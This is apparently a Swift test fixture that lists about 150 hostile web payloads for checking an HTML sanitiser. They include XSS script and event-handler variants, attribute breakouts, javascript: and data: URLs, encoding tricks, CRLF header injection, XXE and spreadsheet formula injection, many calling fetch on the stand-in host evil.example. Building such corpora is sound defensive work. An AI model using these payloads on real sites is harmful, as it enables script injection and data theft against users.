/// Texts by which somebody would try to run a script, load something or leave an attribute.
///
/// Each tells what it did: a script sets `window.ran` and calls a machine elsewhere.
enum HostilePayloads {
  private static let script = "window.ran=1;fetch('http://evil.example/')"
  private static let load = "http://evil.example/"

  /// 150 texts, no two alike.
  static let all: [String] = {
    var seen: Set<String> = []
    return (elements + attributes + breakouts + links + odd + templates).filter {
      seen.insert($0).inserted
    }
  }()

  /// Elements that run or load by themselves.
  private static let elements: [String] =
    [
      "<script>\(script)</script>", "<ScRiPt>\(script)</sCrIpT>", "<script src=\(load)></script>",
      "<script/x>\(script)</script>", "<script\n>\(script)</script\t>", "<script>\(script)",
      "<<script>\(script)//<</script>", "<scr<script>ipt>\(script)</scr</script>ipt>",
      "<iframe src=\(load)></iframe>", "<iframe srcdoc=\"<script>\(script)</script>\"></iframe>",
      "<iframe src=\"javascript:\(script)\"></iframe>", "<object data=\(load)></object>",
      "<embed src=\(load)>", "<link rel=stylesheet href=\(load)>",
      "<link rel=preload as=script href=\(load)>",
      "<link rel=icon href=\(load)>", "<link rel=dns-prefetch href=//evil.example>",
      "<base href=\(load)>", "<meta http-equiv=refresh content=\"0;url=\(load)\">",
      "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
      "<style>@import '\(load)';</style>", "<style>body{background:url(\(load))}</style>",
      "<audio src=\(load) autoplay></audio>", "<video poster=\(load)></video>",
      "<video><source src=\(load)></video>", "<picture><source srcset=\(load)><img></picture>",
      "<svg><script>\(script)</script></svg>", "<svg><use href=\(load)></use></svg>",
      "<svg><image href=\(load)></image></svg>", "<svg><foreignObject><iframe src=\(load)></svg>",
      "<math><mtext><script>\(script)</script></mtext></math>",
      "<template><script>\(script)</script></template>",
      "<form action=\(load)><button>x</button></form>", "<input type=image src=\(load)>",
      "<frameset><frame src=\(load)></frameset>", "<applet code=\(load)></applet>",
      "<portal src=\(load)></portal>", "<marquee onstart=\(script)>x</marquee>",
      "<noscript><img src=\(load)></noscript>", "<textarea><img src=\(load)></textarea>",
      "<title><img src=\(load)></title>", "<xmp><img src=\(load)></xmp>", "<plaintext>",
      "<table background=\(load)>", "<body background=\(load)>", "<isindex action=\(load)>",
      "<dialog open><form action=\(load)></dialog>", "<details open ontoggle=\(script)>",
    ]

  /// Events of elements that need nobody to touch them.
  private static let attributes: [String] = [
    "<img src=x onerror=\(script)>", "<img src=x onerror=\"\(script)\">",
    "<img src='x' onerror='\(script.replacing("'", with: "`"))'>", "<img/src=x/onerror=\(script)>",
    "<img\tsrc=x\tonerror=\(script)>", "<img src=\(load)>", "<img srcset=\(load)>",
    "<img src=x:x onerror=\(script) //", "<IMG SRC=x OnErRoR=\(script)>",
    "<svg onload=\(script)>", "<svg/onload=\(script)>", "<body onload=\(script)>",
    "<input autofocus onfocus=\(script)>", "<select autofocus onfocus=\(script)>",
    "<textarea autofocus onfocus=\(script)>", "<video onerror=\(script)><source></video>",
    "<audio src=x onerror=\(script)>", "<style onload=\(script)></style>",
    "<link rel=stylesheet href=/style.css onload=\(script)>", "<iframe onload=\(script)></iframe>",
    "<object onerror=\(script) data=x></object>", "<p style=background:url(\(load))>x</p>",
    "<p style=\"animation:x\" onanimationstart=\(script)>", "<p onpointerover=\(script)>x</p>",
    "<div contenteditable onfocus=\(script) autofocus tabindex=1>x</div>",
    "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=\(script)>",
    "<svg><animate onbegin=\(script) attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=\(script)>",
  ]

  /// Ways out of an attribute, a text area, a title, a comment, a style or a script.
  private static let breakouts: [String] = [
    "\"><script>\(script)</script>", "'><script>\(script)</script>",
    "\" onfocus=\"\(script)\" autofocus=\"",
    "' onfocus='\(script.replacing("'", with: "`"))' autofocus='", "\" onmouseover=\"\(script)",
    "x\u{0301}\" onfocus=\"\(script)\" autofocus=\"",
    "\"\u{0301} onfocus=\"\(script)\" autofocus=\"",
    "\"\u{200D} autofocus onfocus=\"\(script)", "</textarea><script>\(script)</script>",
    "</textarea><img src=x onerror=\(script)>", "</title><script>\(script)</script>",
    "</style><script>\(script)</script>", "</script><script>\(script)</script>",
    "--><script>\(script)</script>", "<!--><img src=x onerror=\(script)>-->",
    "]]><script>\(script)</script>",
    "</option></select><script>\(script)</script>", "</td></table><script>\(script)</script>",
    "</li></ul></main><script>\(script)</script>", "<\u{0301}script>\(script)</script>",
    "<script\u{0301}>\(script)</script>", "\u{FEFF}<script>\(script)</script>",
    "`-alert(1)-`", "';\(script);//", "\\\";\(script);//",
    "\\u003cscript\\u003e\(script)\\u003c/script\\u003e",
    "&lt;script&gt;\(script)&lt;/script&gt;", "&#60;script&#62;\(script)&#60;/script&#62;",
    "&quot; onfocus=\(script) autofocus", "&#34; onfocus=\(script) autofocus",
    "%3Cscript%3E\(script)%3C/script%3E",
    "＜script＞\(script)＜/script＞", "<a name=\"content\"></a>", "<img name=body>",
    "<form id=draft-form><input name=formToken></form>", "x\" formaction=\"\(load)",
    "yes\" checked type=\"image\" src=\"\(load)", "\"accesskey=\"x\"onclick=\"\(script)",
  ]

  /// Addresses that are more than addresses.
  private static let links: [String] = [
    "javascript:\(script)", "JaVaScRiPt:\(script)", "java\tscript:\(script)",
    "javascript&colon;\(script)",
    " javascript:\(script)", "\u{01}javascript:\(script)",
    "data:text/html,<script>\(script)</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=", "vbscript:msgbox(1)",
    "file:///etc/passwd", "//evil.example/", "/\\evil.example/",
    "https://evil.example/\"onclick=\"\(script)",
    "blob:http://evil.example/x", "view-source:\(load)", "http://evil.example\\@127.0.0.1/",
    "<a href=\"javascript:\(script)\" autofocus>x</a>", "<a href=\(load) ping=\(load)>x</a>",
    "[x](javascript:\(script))", "![x](\(load))", "<\(load)>",
    "mailto:x@evil.example?body=<script>",
  ]

  /// Bytes that mislead parsers.
  private static let odd: [String] = [
    "+ADw-script+AD4-\(script)+ADw-/script+AD4-", "\u{202E}<script>\(script)</script>",
    "<script>\u{2028}\(script)</script>",
    "<%00script>\(script)</script>", "< script>\(script)</ script>",
    "<script x=\">\">\(script)</script>",
    "<a\u{00A0}href=\(load)>x</a>",
    "<?xml version=\"1.0\"?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">\(script)</x:script>",
    "<![CDATA[<script>\(script)</script>]]>", "<!DOCTYPE x [<!ENTITY e SYSTEM \"\(load)\">]>&e;",
    "\r\nSet-Cookie: x=1\r\n\r\n<script>\(script)</script>", "x\r\nLocation: \(load)",
  ]

  /// What template engines and spreadsheets would take for their own.
  private static let templates: [String] = [
    "{{{text}}}", "{{&text}}", "{{#text}}<script>\(script)</script>{{/text}}", "{{>layout}}",
    "{{=<% %>=}}<%text%>",
    "${\(script)}", "#{\(script)}", "<%= \(script) %>", "{%raw%}<script>\(script)</script>",
    "=HYPERLINK(\"\(load)\")", "@SUM(1)", "+cmd|'/c calc'!A0",
  ]
}
